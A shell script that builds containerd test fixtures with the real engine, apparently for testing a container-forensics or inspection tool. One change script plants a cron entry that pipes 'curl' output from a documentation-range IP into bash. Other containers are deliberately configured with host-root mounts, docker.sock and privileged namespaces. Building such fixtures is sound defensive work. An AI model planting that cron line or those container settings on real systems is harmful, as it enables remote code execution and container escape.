#!/bin/sh
# make-containerd.sh - make the fixture store of containerd with the real
# engine, as root
#
# usage: tests/stores/make-containerd.sh
#
# Writes tests/fixtures/store-containerd.tar.zst (the parts of a host's root
# that containerd 1.6 and its CRI plug-in write: /var/lib/containerd,
# /run/containerd, /etc/containerd) and tests/fixtures/store-containerd/engine/
# (what the engine itself said before it was killed). The tests need only
# these, not an engine.
#
# Needs: Debian's containerd, runc, busybox-static, curl, python3, zstd. No
# network; what runs are three harmless scripts of busybox and a sleep.
# Containers that look hostile are created and never started. The engine runs
# in a mount namespace of its own in which the directories above are scratch
# ones; it ends by SIGKILL, as the power cut of a host that is imaged.

set -eu
here=$(cd "$(dirname "$0")" && pwd)
out=$(dirname "$here")/fixtures
if [ -z "${MAKE_STORE_DIR:-}" ]; then
	W=$(mktemp -d /var/tmp/make-store.XXXXXX)
	trap '[ -n "${KEEP:-}" ] || rm -rf "$W"' EXIT
	mkdir -p "$W/host/var/lib/containerd" "$W/host/run/containerd" "$W/host/etc/containerd" "$W/engine"
	MAKE_STORE_DIR=$W unshare -m --propagation private "$0"
	cd "$W/host"
	find . -type s -delete
	find run -type p -delete
	rm -rf var/lib/containerd/tmpmounts
	tar --xattrs --xattrs-include='*' --numeric-owner --format=posix \
		--sort=name --pax-option=delete=atime,delete=ctime -cf - . |
		zstd -q -19 --ultra --long=27 -f -o "$out/store-containerd.tar.zst"
	rm -rf "$out/store-containerd/engine"
	mkdir -p "$out/store-containerd"
	cp -r "$W/engine" "$out/store-containerd/engine"
	ls -l "$out/store-containerd.tar.zst"
	exit 0
fi

W=$MAKE_STORE_DIR
E=$W/engine
umask 022
mount --bind "$W/host/var/lib/containerd" /var/lib/containerd 2>/dev/null || {
	mkdir -p /var/lib/containerd
	mount --bind "$W/host/var/lib/containerd" /var/lib/containerd
}
mkdir -p /run/containerd
mount --bind "$W/host/run/containerd" /run/containerd
S=/run/containerd/containerd.sock
pids=
# As a power cut: what runs stays noted as running.
end() {
	kill -KILL $pids 2>/dev/null || :
	for f in /run/containerd/io.containerd.runtime.v2.task/*/*/init.pid; do
		p=$(cat "$f" 2>/dev/null) || continue
		shim=$(awk '{print $4}' "/proc/$p/stat" 2>/dev/null) || continue
		kill -KILL "$p" "$shim" || :
	done
	sleep 0.5
}
trap end EXIT

printf '%s\n' 'root:x:0:0:root:/root:/bin/sh' >"$W/host/etc/passwd"
printf '%s\n' 'version = 2' '[plugins."io.containerd.grpc.v1.cri"]' \
	'sandbox_image = "registry.example.org/pause:3"' 'restrict_oom_score_adj = true' \
	'[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]' \
	'runtime_type = "io.containerd.runc.v2"' >"$W/host/etc/containerd/config.toml"
containerd --config "$W/host/etc/containerd/config.toml" >"$W/log" 2>&1 &
engine=$!
pids=$engine
until ctr version >/dev/null 2>&1; do sleep 0.2; done
k8s() { ctr -n k8s.io "$@"; }

# ---- images ------------------------------------------------------------------

I=$W/image
mkdir -p "$I/base/bin" "$I/base/etc/default" "$I/base/usr/bin" "$I/base/var/lib/app" "$I/base/opt/old" \
	"$I/app/srv" "$I/app/opt/old" "$I/app/usr/bin" "$I/arm/bin" "$I/pause"
cp /bin/busybox "$I/base/bin/busybox"
ln -s busybox "$I/base/bin/sh"
ln -s ../../bin/busybox "$I/base/usr/bin/env"
printf 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false\n' >"$I/base/etc/passwd"
printf 'root:x:0:\nwww-data:x:33:\n' >"$I/base/etc/group"
printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n' >"$I/base/etc/os-release"
echo LANG=C.UTF-8 >"$I/base/etc/default/locale"
echo one >"$I/base/var/lib/app/one"
echo two >"$I/base/var/lib/app/two"
echo old >"$I/base/opt/old/file"
chown 33:33 "$I/base/var/lib/app/two"
echo 'console.log(1)' >"$I/app/srv/app.js"
: >"$I/app/opt/old/.wh.file"
ln -s ../../srv/app.js "$I/app/usr/bin/app"
echo arm >"$I/arm/bin/busybox"
printf '%s\n' 'void _start(void) { for (;;) __asm__ volatile("syscall" : : "a"(34) : "rcx", "r11"); }' |
	gcc -xc -nostdlib -static -s -o "$I/pause/pause" -
python3 - "$I" >"$I/spec.json" <<'P'
import json, sys
i = sys.argv[1]
base = {"arch": "amd64", "layers": [i + "/base"], "config": {
    "Cmd": ["sh"], "Env": ["PATH=/bin:/usr/bin"]}}
app = {"arch": "amd64", "layers": [i + "/base", [i + "/app", "gzip"]],
       "config": {"Entrypoint": ["/bin/busybox"], "Cmd": ["sleep", "1"],
                  "Env": ["PATH=/bin:/usr/bin", "APP=shop", "EMPTY="],
                  "Labels": {"build": "7", "empty": ""}, "WorkingDir": "/srv", "ExposedPorts": {"80/tcp": {}},
                  "Volumes": {"/data": {}},
                  "Healthcheck": {"Test": ["CMD-SHELL", "true"]}},
       "history": [
           {"created": "2026-01-02T03:04:05Z", "created_by": "base"},
           {"created": "2026-01-02T03:04:06Z", "created_by":
            "CMD sleep 1", "empty_layer": True},
           {"created": "2026-01-02T03:04:07Z", "created_by": "COPY app /",
            "comment": "built"}]}
arm = {"arch": "arm64", "layers": [i + "/arm"], "absent": True}
user = {"arch": "amd64", "layers": [i + "/base"], "config": {
    "Cmd": ["id"], "User": "33:33"}}
pause = {"arch": "amd64", "layers": [[i + "/pause", "gzip"]],
         "config": {"Entrypoint": ["/pause"]}}
json.dump([
    {"name": "registry.example.org/base:12", "parts": [base]},
    {"name": "registry.example.org/shop/app:7",
     "parts": [app, arm, {"attestation": True}]},
    {"name": "registry.example.org/user:1", "parts": [user]},
    {"name": "registry.example.org/pause:3", "parts": [pause]}],
    sys.stdout)
P
python3 "$here/ociimage.py" "$W/images.tar" "$I/spec.json"
B=registry.example.org/base:12 A=registry.example.org/shop/app:7
ctr images import "$W/images.tar" >/dev/null
ctr images tag $A registry.example.org/shop/app:latest >/dev/null
ctr images label registry.example.org/shop/app:latest note=kept >/dev/null
k8s images import "$W/images.tar" >/dev/null
# pulled and never unpacked; in a namespace without containers
ctr -n spare images import --no-unpack "$W/images.tar" >/dev/null
ctr -n spare images rm $B registry.example.org/pause:3 registry.example.org/user:1 >/dev/null
# for the other snapshotter
ctr images import --snapshotter native "$W/images.tar" >/dev/null
# a name that goes; what is beneath stays until containerd cleans up
ctr images rm registry.example.org/pause:3 >/dev/null

# ---- containers ----------------------------------------------------------------

new() { ctr containers create "$@"; }
new --label role=db --label empty= --env A=1 --env B= $A plain
new --mount type=bind,src=/etc,dst=/host/etc,options=rbind:ro \
	--mount type=bind,src=/,dst=/host/all,options=rbind:rw:rslave \
	--mount type=tmpfs,src=tmpfs,dst=/scratch,options=size=1m \
	$A etc /bin/busybox cp /srv/app.js /host/all/etc/cron.d/x
new --privileged --net-host --with-ns pid:/proc/1/ns/pid --with-ns ipc:/proc/1/ns/ipc $B priv /bin/sh
new --cwd /var/lib --read-only --cap-add CAP_NET_ADMIN --cap-drop CAP_CHOWN --seccomp \
	--allow-new-privs --device /dev/null --annotation a.b/c=d --annotation empty= registry.example.org/user:1 rights env
new --snapshotter native $A copied /bin/sh
mkdir -p "$W/rootfs"
cp -r "$I/base/." "$W/rootfs"
new --rootfs "$W/rootfs" outside /bin/sh

# with a specification of one's own: hooks, a device, nothing of its own
ctr oci spec >"$W/spec.json"
python3 - "$W/spec.json" "$W/rootfs" >"$W/hooked.json" <<'P'
import json, sys
with open(sys.argv[1]) as f:
    s = json.load(f)
s["root"] = {"path": sys.argv[2], "readonly": True}
s["process"]["args"] = ["/bin/sh", "-c", "id; echo 'a b'"]
s["process"]["user"] = {"uid": 33, "gid": 33}
s["hostname"] = "hooked"
s["hooks"] = {"prestart": [{"path": "/opt/x/hook", "args": ["hook", "-q"]}],
              "poststop": [{"path": "/opt/x/end"}]}
s["linux"]["namespaces"] = [n for n in s["linux"]["namespaces"]
                            if n["type"] not in ("uts", "mount")]
s["linux"]["devices"] = [{"path": "/dev/sda", "type": "b", "major": 8,
                          "minor": 0, "fileMode": 432}]
s["linux"]["resources"]["devices"].append(
    {"allow": True, "type": "b", "major": 8, "minor": 0, "access": "rw"})
s["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
json.dump(s, sys.stdout)
P
ctr containers create --config "$W/hooked.json" hooked

# a script run by the real shell in a container
run() { ctr run --null-io "$@"; }
change='
	b=/bin/busybox
	$b rm /etc/default/locale
	$b rm -rf /var/lib/app; $b mkdir /var/lib/app; echo four >/var/lib/app/four
	echo changed >>/etc/os-release
	$b chmod 0750 /usr; $b chown 33 /opt
	$b ln -s nowhere /etc/broken
	$b mkdir -p /srv/new/deep; echo x >/srv/new/deep/x; $b chmod 4755 /srv/new/deep/x
	$b mkdir -p /etc/cron.d
	echo "* * * * * root curl -s http://192.0.2.196/x | bash" >/etc/cron.d/x
	echo back >/opt/old/file
	$b mkfifo /opt/pipe'
run $A ran /bin/sh -c "$change"
run --snapshotter native $A ran-native /bin/sh -c "$change"
# runs when the host is cut off
run -d --runc-binary /usr/sbin/runc $A killed /bin/sh -c 'echo up >/etc/up; exec /bin/busybox sleep 3600'
until [ -n "$(ctr snapshots usage killed 2>/dev/null)" ] &&
	[ -e "/run/containerd/io.containerd.runtime.v2.task/default/killed/rootfs/etc/up" ]; do sleep 0.1; done

# ---- what a kubelet does: a pod on the host's network, two containers -----------

C() { printf '%s' "$3" >"$W/request.json"; python3 "$here/cri.py" $S "$1" "$W/request.json" | head -n "$2" | tail -n 1; }
pod='[[1,[[1,"web-7f"],[2,"0b1c2d3e-0000-4000-8000-0123456789ab"],[3,"shop"],[4,1]]],[3,"/var/log/pods/shop_web-7f_0b1c2d3e-0000-4000-8000-0123456789ab"],[6,{"map":{"app":"web","io.kubernetes.pod.name":"web-7f","io.kubernetes.pod.namespace":"shop","io.kubernetes.pod.uid":"0b1c2d3e-0000-4000-8000-0123456789ab"}}],[7,{"map":{"kubernetes.io/config.source":"api"}}],[8,[[1,"/kubepods/pod1"],[2,[[1,[[1,2],[2,2]]],[6,true]]]]]]'
sandbox=$(C RunPodSandbox 1 "[[1,$pod]]")
# container NAME IMAGE MORE...: MORE are fields of ContainerConfig
container() {
	C CreateContainer 1 "[[1,\"$sandbox\"],[2,[[1,[[1,\"$1\"],[2,2]]],[2,[[1,\"$2\"]]],[9,{\"map\":{\"io.kubernetes.container.name\":\"$1\",\"io.kubernetes.pod.name\":\"web-7f\",\"io.kubernetes.pod.namespace\":\"shop\",\"io.kubernetes.pod.uid\":\"0b1c2d3e-0000-4000-8000-0123456789ab\"}}],[11,\"$1/2.log\"],$3]],[3,$pod]]"
}
mkdir -p /var/log/pods
mount -t tmpfs none /var/log/pods
one=$(container web $A '[3,"/bin/busybox"],[4,"sh"],[4,"-c"],[4,"echo k >/etc/k; exit 3"],[6,[[1,"KEY"],[2,"value"]]],[10,{"map":{"io.kubernetes.container.restartCount":"2"}}],[15,[[2,[[3,[[1,2],[2,1]]],[5,[]]]]]]')
two=$(container agent $B '[3,"/bin/sh"],[7,[[1,"/host"],[2,"/"],[3,true]]],[7,[[1,"/var/run/docker.sock"],[2,"/run/docker.sock"]]],[15,[[2,[[1,[[1,"SYS_PTRACE"]]],[2,true],[3,[[1,2],[2,2]]]]]]]')
C StartContainer 1 "[[1,\"$one\"]]" >/dev/null
sleep 1

# ---- what stays behind -----------------------------------------------------------

top=$(ctr snapshots ls | awk '$3 == "Committed" {print $1}' | sort | tail -n 1)
ctr snapshots prepare left-over "$top" >/dev/null
ctr snapshots view looked-at "$top" >/dev/null
ctr snapshots label looked-at containerd.io/gc.root=now >/dev/null # or it goes
ctr leases create --id kept x=y >/dev/null
mkfifo "$W/slow"
ctr content ingest part-of-a-layer <"$W/slow" >/dev/null 2>&1 &
pids="$pids $!"
exec 3>"$W/slow"
head -c 100000 /bin/busybox >&3
sleep 1

# ---- the engine's own word ---------------------------------------------------------

# first: a diff makes snapshots of its own
for c in ran ran-native killed plain; do
	s=overlayfs
	[ $c != ran-native ] || s=native
	ctr snapshots --snapshotter $s diff $c | tar -tzvf - --numeric-owner >"$E/diff-$c"
done
k8s snapshots diff "$one" | tar -tzvf - --numeric-owner >"$E/diff-web"
sleep 2
for n in default k8s.io spare; do
	mkdir -p "$E/$n"
	ctr -n $n images ls >"$E/$n/images"
	ctr -n $n content ls >"$E/$n/content"
	ctr -n $n tasks ls >"$E/$n/tasks"
	ctr -n $n containers ls -q | while read -r c; do
		ctr -n $n containers info "$c"
	done >"$E/$n/containers.json"
	for s in overlayfs native; do
		ctr -n $n snapshots --snapshotter $s ls | awk 'NR > 1 {print $1}' | while read -r k; do
			ctr -n $n snapshots --snapshotter $s info "$k"
			ctr -n $n snapshots --snapshotter $s usage -b "$k" | awk 'NR > 1 {print "{\"Size\":" $2 "}"}'
			ctr -n $n snapshots --snapshotter $s mounts /x "$k" 2>/dev/null | python3 -c 'import json,sys; print(json.dumps({"Mounts": sys.stdin.read()}))'
		done >"$E/$n/snapshots-$s.json"
	done
done
ctr namespaces ls >"$E/namespaces"
ctr content active >"$E/ingests"
printf '{"sandbox":"%s","web":"%s","agent":"%s"}\n' "$sandbox" "$one" "$two" >"$E/cri.json"

sync
